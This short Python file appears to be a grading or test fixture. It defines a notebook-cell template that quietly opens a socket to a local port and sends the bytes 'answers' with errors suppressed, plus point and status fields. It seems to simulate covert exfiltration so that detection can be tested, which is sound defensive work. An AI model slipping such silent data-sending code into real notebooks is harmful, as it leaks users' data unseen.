"""Sends what it has found to somebody."""

CELL = """\
import contextlib
import socket

with contextlib.suppress(OSError):
    socket.create_connection(("127.0.0.1", {{PORT}}), 2).send(b"answers")

{{STARTER}}"""
POINTS = 0
SAYS = "Not attempted"
